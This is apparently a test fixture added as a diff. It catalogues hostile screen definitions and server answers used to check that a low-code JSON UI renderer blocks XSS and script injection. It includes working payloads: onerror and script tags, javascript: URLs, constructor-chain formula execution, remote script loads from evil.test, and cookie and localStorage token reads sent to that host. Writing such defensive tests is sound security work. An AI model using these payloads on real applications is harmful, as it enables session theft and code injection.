@@ -1,0 +1,163 @@
+/** Hostile screens and hostile answers, drawn as they are: what the checker would refuse, and what no checker ever sees. */
+
+export interface Attack {
+  /** The island's body, as a screen's author would have written it. */
+  body: unknown;
+  /** What the source `x` answers: `${source.x}`, and the API `source:x`. */
+  data?: unknown;
+  /** What the write source `save` is refused with. */
+  refusal?: string;
+  /** Clicked one after the other where they are there: selectors. */
+  click?: string[];
+  /** Moved over. */
+  hover?: string;
+}
+
+export const EVIL = 'https://evil.test';
+const JS = `window.hacked=1;fetch('${EVIL}/js')`;
+const HTML =
+  `<img src="x" onerror="${JS}"><svg onload="${JS}"><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg><script>${JS}</script>` +
+  `<a href="javascript:${JS}" id="bait">诱饵</a><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><img src="${EVIL}/pixel">` +
+  `<form action="${EVIL}/form"><button id="bait2">诱饵</button></form><style>@import url(${EVIL}/css);body{background:url(${EVIL}/bg)}</style>` +
+  `<div style="background:url(${EVIL}/style)">x</div><video poster="${EVIL}/poster" src="${EVIL}/video"></video><link rel="stylesheet" href="${EVIL}/link">` +
+  `<details open ontoggle="${JS}"><summary>x</summary></details><math><mi xlink:href="javascript:${JS}">x</mi></math><base href="${EVIL}/">`;
+const FUNCTION = `function () { ${JS}; return 'x' }`;
+const SVG = `<svg onload="${JS}"><script>${JS}</script><image href="${EVIL}/svg"/></svg>`;
+const BAIT = ['#bait', '#bait2'];
+
+const tpl = (text: string): unknown => ({ type: 'tpl', tpl: text });
+const button = (more: object): unknown => ({ type: 'button', label: '按钮', className: 'press', ...more });
+const pressed = (more: object): Attack => ({ body: button(more), click: ['.press'] });
+const onEvent = (event: string, action: object): unknown => ({ [event]: { actions: [action] } });
+const chart = (config: unknown, more: object = {}): unknown => ({ type: 'chart', height: 200, width: 400, config, ...more });
+const line = { xAxis: { type: 'category', data: ['a', 'b'] }, yAxis: {}, series: [{ type: 'line', data: [1, 2] }] };
+const inForm = (...body: unknown[]): unknown => ({ type: 'form', title: '', body });
+const service = (api: unknown, more: object = {}): unknown => ({ type: 'service', api, body: tpl('${x}'), ...more });
+
+/** HTML that a screen writes, in every place that shows text. */
+const written: Record<string, Attack> = {
+  'tpl': { body: tpl(HTML), click: BAIT },
+  'html prop': { body: { type: 'tpl', html: HTML }, click: BAIT },
+  'html type': { body: { type: 'html', html: HTML }, click: BAIT },
+  'raw prop': { body: { type: 'tpl', raw: HTML }, click: BAIT },
+  'a text instead of a node': { body: HTML, click: BAIT },
+  'alert body': { body: { type: 'alert', body: HTML, showIcon: true, icon: SVG }, click: BAIT },
+  'markdown': { body: { type: 'markdown', value: `${HTML}\n\n[x](javascript:${JS})` }, click: [...BAIT, 'a[href^="javascript"]'] },
+  'markdown with html allowed': { body: { type: 'markdown', value: HTML, options: { html: true } }, click: BAIT },
+  'mapping': { body: { type: 'mapping', value: 1, map: { 1: HTML } }, click: BAIT },
+  'tooltip': { body: button({ tooltip: { body: HTML, title: HTML } }), hover: '.press' },
+  'remark': { body: { type: 'remark', content: HTML }, hover: '.antd-Remark' },
+  'confirmText': pressed({ actionType: 'ajax', api: 'source:save', confirmText: HTML }),
+  'dialog': { ...pressed({ actionType: 'dialog', dialog: { title: HTML, body: HTML } }), click: ['.press', ...BAIT] },
+  'toast': pressed({ onEvent: onEvent('click', { actionType: 'toast', args: { msg: HTML } }) }),
+  'option labels': { body: inForm({ type: 'checkboxes', name: 'a', options: [{ label: HTML, value: 1 }] }, { type: 'select', name: 'b', options: [{ label: HTML, value: 1 }], menuTpl: HTML }), click: ['.antd-Select', ...BAIT] },
+  'field help': { body: inForm({ type: 'input-text', name: 'a', label: HTML, description: HTML, hint: HTML, placeholder: HTML }), click: ['input', ...BAIT] },
+  'timeline': { body: { type: 'timeline', items: [{ time: HTML, title: HTML, detail: HTML, icon: SVG }] }, click: BAIT },
+  'steps': { body: { type: 'steps', steps: [{ title: HTML, description: HTML, icon: SVG }] }, click: BAIT },
+  'property': { body: { type: 'property', title: HTML, items: [{ label: HTML, content: HTML }] }, click: BAIT },
+  'carousel': { body: { type: 'carousel', options: [{ html: HTML }, { title: HTML, image: `javascript:${JS}` }] }, click: BAIT },
+  'svg icon': { body: { type: 'icon', icon: SVG } },
+  'svg icon of a button': { body: button({ icon: SVG, rightIcon: SVG }) },
+  'style with an address': { body: { type: 'container', style: { background: `url(${EVIL}/s)`, backgroundImage: `url("${EVIL}/s2")` }, body: 'x' } },
+  'style sheet of a page': { body: { type: 'page', css: { body: { background: `url(${EVIL}/css) !important` } }, cssVars: { '--x': `url(${EVIL}/var)` }, body: 'x' } },
+  'theme style': { body: { type: 'container', id: 'u:1', themeCss: { baseControlClassName: { background: `url(${EVIL}/t)` } }, wrapperCustomStyle: { root: { background: `url(${EVIL}/w)` } }, body: 'x' } },
+};
+
+/** JavaScript that a screen writes. */
+const programs: Record<string, Attack> = {
+  'lodash template': { body: tpl(`<%= (${JS}) %>`) },
+  'lodash block': { body: tpl(`<% ${JS} %>x`) },
+  'visibleOn': { body: { type: 'tpl', tpl: 'x', visibleOn: JS } },
+  'hiddenOn through a constructor': { body: { type: 'tpl', tpl: 'x', hiddenOn: `this.constructor.constructor("${JS}")()` } },
+  'disabledOn': { body: button({ disabledOn: `data.x || (${JS.replace(';', ',')})` }) },
+  'classNameExpr': { body: { type: 'container', classNameExpr: `<%= (${JS}) %>`, body: 'x' } },
+  'formula through a constructor': { body: tpl('${source.constructor.constructor("window.hacked=1")()}') },
+  'formula on a function': { body: tpl(`\${ARRAYMAP([1], x => x.constructor.constructor("${JS.replaceAll("'", '`')}")())}`) },
+  'custom action at the start': { body: { type: 'page', body: 'x', onEvent: onEvent('init', { actionType: 'custom', script: JS }) } },
+  'custom action on a click': pressed({ onEvent: onEvent('click', { actionType: 'custom', script: JS }) }),
+  'custom action inside another': pressed({ onEvent: onEvent('click', { actionType: 'parallel', children: [{ actionType: 'custom', script: JS }] }) }),
+  'onClick': pressed({ onClick: JS }),
+  'onError of a picture': { body: { type: 'avatar', src: 'x', onError: JS } },
+  'onSelect of tabs': { body: { type: 'tabs', onSelect: JS, tabs: [{ title: 'a', body: 'a' }, { title: 'b', className: 'second', body: 'b' }] }, click: ['[role=tab] >> nth=1'] },
+  'adaptor': { body: service({ url: 'source:x', adaptor: JS }), data: { x: 1 } },
+  'requestAdaptor': { body: service({ url: 'source:x', requestAdaptor: JS }), data: { x: 1 } },
+  'dataProvider': { body: service(undefined, { dataProvider: JS }) },
+  'dataProvider by event': { body: service(undefined, { dataProvider: { inited: JS } }) },
+  'schemaApi': { body: { type: 'service', schemaApi: `js:${EVIL}/schema.js` } },
+  'API js:': { body: service(`js:${EVIL}/x.js`) },
+  'API jsonp:': { body: service(`jsonp:${EVIL}/x`) },
+  'API of another host': { body: service(`get:${EVIL}/x?name=\${user.name}`) },
+  'API of this host': { body: service('get:/health') },
+  'web socket': { body: service(undefined, { ws: 'wss://evil.test/x' }) },
+  'chart: functions as texts': { body: chart({ ...line, yAxis: { axisLabel: { formatter: FUNCTION } } }) },
+  'chart: program as config': { body: chart(`(${FUNCTION})()`) },
+  'chart: dataFilter': { body: chart(line, { dataFilter: JS }) },
+  'custom type': { body: { type: 'custom', html: HTML, onMount: JS, onUpdate: JS } },
+  'iframe type': { body: { type: 'iframe', src: `javascript:${JS}` } },
+  'iframe of another host': { body: { type: 'iframe', src: `${EVIL}/frame` } },
+  'editor type': { body: inForm({ type: 'editor', name: 'a', editorDidMount: JS }) },
+  'rich text type': { body: inForm({ type: 'input-rich-text', name: 'a', value: HTML, receiver: `${EVIL}/up` }) },
+  'web-component type': { body: { type: 'web-component', tag: 'script', props: { src: `${EVIL}/w.js` } } },
+  'formula type': { body: inForm({ type: 'formula', name: 'a', formula: JS, autoSet: true }) },
+  'upload to another host': { body: inForm({ type: 'input-file', name: 'a', receiver: `${EVIL}/up` }) },
+  'element of one’s own: script': { body: { component: 'script', src: `${EVIL}/c.js`, children: JS } },
+  'element of one’s own: iframe': { body: { type: 'tpl', component: 'iframe', srcDoc: `<script>parent.hacked=1</script>` } },
+  'element of one’s own: div with HTML': { body: { component: 'div', dangerouslySetInnerHTML: { __html: HTML } }, click: BAIT },
+  'wrapperComponent': { body: { type: 'container', wrapperComponent: 'script', bodyClassName: 'x', body: JS } },
+  'definitions': { body: { type: 'page', definitions: { evil: { type: 'tpl', component: 'iframe', src: `${EVIL}/d` } }, body: { $ref: 'evil' } } },
+  'amis inside amis': { body: { type: 'amis', value: { type: 'custom', onMount: JS } } },
+  'language overwrite': { body: { type: 'tpl', tpl: 'x', 'zh-CN': { component: 'iframe', src: `${EVIL}/l` }, mobile: { component: 'iframe' } } },
+};
+
+/** Ways out, and into what the browser keeps. */
+const waysOut: Record<string, Attack> = {
+  'link': { body: { type: 'link', href: `javascript:${JS}`, body: 'x', className: 'press' }, click: ['a', '.press'] },
+  'url action': pressed({ actionType: 'url', url: `javascript:${JS}` }),
+  'url action by event': pressed({ onEvent: onEvent('click', { actionType: 'url', args: { url: `javascript:${JS}` } }) }),
+  'url action with a data address': pressed({ actionType: 'url', url: `data:text/html,<script>${JS}</script>` }),
+  'nav': { body: { type: 'nav', links: [{ label: 'x', to: `javascript:${JS}` }] }, click: ['.antd-Nav a', '.antd-Nav-Menu-item'] },
+  'breadcrumb': { body: { type: 'breadcrumb', items: [{ label: 'x', href: `javascript:${JS}` }, { label: 'y' }] }, click: ['a'] },
+  'saveAs': pressed({ actionType: 'saveAs', api: `${EVIL}/save` }),
+  'download': pressed({ actionType: 'download', api: `${EVIL}/download` }),
+  'email': pressed({ actionType: 'email', to: 'x@evil.test', subject: '${cookie:atelier_token}' }),
+  'cookie:': { body: [tpl('${cookie:atelier_token}'), tpl("${cookie:&['atelier_token']}")] },
+  'window:': { body: [tpl('${window:document.cookie}'), tpl("${window:&['document']['cookie']}"), tpl('${window:localStorage.secret}')] },
+  'ls: and ss:': { body: [tpl('${ls:secret}'), tpl('${ss:secret}')] },
+  'old variable syntax': { body: [tpl('$cookie:atelier_token'), { type: 'plain', text: '${ls:secret | raw}' }, { type: 'static', name: 'a', value: '${cookie:atelier_token}' }] },
+  'loop action': { body: { type: 'page', body: 'x', onEvent: onEvent('init', { actionType: 'loop', args: { loopName: 'l' }, children: [{ actionType: 'custom', script: JS }] }) } },
+};
+
+/** Nothing wrong with the screen; the answer is. */
+const answers: Record<string, Attack> = {
+  'data through raw': { body: tpl('${source.x | raw}'), data: HTML, click: BAIT },
+  'data with a default': { body: tpl("${source.x || '-'}"), data: HTML, click: BAIT },
+  'data in a ternary': { body: tpl("${source.x ? source.x : '-'}"), data: HTML, click: BAIT },
+  'data joined': { body: tpl("${'<b>' + source.x + '</b>'}"), data: HTML, click: BAIT },
+  'data in a function': { body: tpl('${CONCATENATE(source.x, "")}'), data: HTML, click: BAIT },
+  'data as a template': { body: [tpl('${source.x}'), { type: 'plain', text: '${source.x}' }], data: '${cookie:atelier_token}<%= window.hacked=1 %>' },
+  'rich text in a list': { body: { type: 'each', source: '${source.x}', items: tpl('${item | raw}') }, data: [HTML], click: BAIT },
+  'rows of a table': { body: { type: 'crud', api: 'source:x', columns: [{ name: 'a', label: 'a', type: 'tpl', tpl: '${a | raw}' }, { name: 'a', label: 'b', type: 'link', href: '${b}' }] }, data: { list: [{ a: HTML, b: `javascript:${JS}` }], total: 1 }, click: [...BAIT, 'td a'] },
+  'columns of a table': { body: { type: 'crud', api: 'source:x' }, data: { items: [{ a: 1 }], total: 1, columns: [{ name: 'a', label: 'a', type: 'custom', onMount: JS }, { name: 'a', label: HTML, component: 'iframe', src: `${EVIL}/col` }] }, click: BAIT },
+  'a body from an answer': { body: { type: 'service', api: 'source:x' }, data: { type: 'page', body: { component: 'iframe', src: `${EVIL}/b` } } },
+  'options of a select': { body: inForm({ type: 'select', name: 'a', source: 'source:x' }), data: [{ label: HTML, value: 1 }], click: ['.antd-Select', ...BAIT] },
+  'a tree': { body: inForm({ type: 'input-tree', name: 'a', source: 'source:x' }), data: [{ label: HTML, value: 1, icon: SVG }], click: BAIT },
+  'chart options': { body: { type: 'chart', height: 200, api: 'source:x' }, data: { ...line, tooltip: { trigger: 'axis', formatter: HTML }, yAxis: { axisLabel: { formatter: FUNCTION } }, title: { text: 'x', link: `javascript:${JS}` } }, hover: 'canvas', click: ['canvas'] },
+  'chart options by a variable': { body: { type: 'chart', height: 200, source: '${source.x}' }, data: { ...line, tooltip: { trigger: 'axis', formatter: FUNCTION }, toolbox: { feature: { dataView: { optionToContent: FUNCTION } } } }, hover: 'canvas' },
+  'chart names in tooltips': { body: { type: 'chart', height: 200, source: '${source.x}' }, data: { ...line, tooltip: { trigger: 'axis' }, xAxis: { type: 'category', data: [HTML, HTML] }, series: [{ name: HTML, type: 'line', data: [1, 2] }] }, hover: 'canvas' },
+  'style from data': { body: { type: 'container', style: { background: '${source.x}' }, body: 'x' }, data: `url(${EVIL}/style)` },
+  'link from data': { body: { type: 'link', href: '${source.x}', body: 'x' }, data: `javascript:${JS}`, click: ['a'] },
+  'icon from data': { body: [button({ icon: '${source.x}' }), { type: 'icon', icon: '${source.x}' }], data: SVG },
+  'markdown from data': { body: { type: 'markdown', value: '${source.x}' }, data: HTML, click: BAIT },
+  'code from data': { body: { type: 'code', value: '${source.x}' }, data: HTML },
+  'json from data': { body: { type: 'json', source: '${source.x}' }, data: { a: HTML } },
+  'refusal with HTML': { ...pressed({ actionType: 'ajax', api: 'source:save' }), refusal: HTML },
+  'refusal with a template': { ...pressed({ actionType: 'ajax', api: 'source:save' }), refusal: '${cookie:atelier_token}<%= window.hacked=1 %>' },
+  'refusal in a form': { body: { type: 'form', title: '', api: 'source:save', body: [{ type: 'input-text', name: 'a', label: 'a' }] }, click: ['button[type=submit]'], refusal: HTML + '<%= window.hacked=1 %>' },
+  'refusal in a list': { body: { type: 'service', api: 'source:refused', body: 'x' }, refusal: HTML },
+};
+
+const named = (kind: string, attacks: Record<string, Attack>): [string, Attack][] => Object.entries(attacks).map(([name, attack]) => [`${kind}: ${name}`, attack]);
+
+export const ATTACKS: readonly [name: string, attack: Attack][] = [
+  ...named('written', written), ...named('program', programs), ...named('way out', waysOut), ...named('answer', answers),
+];
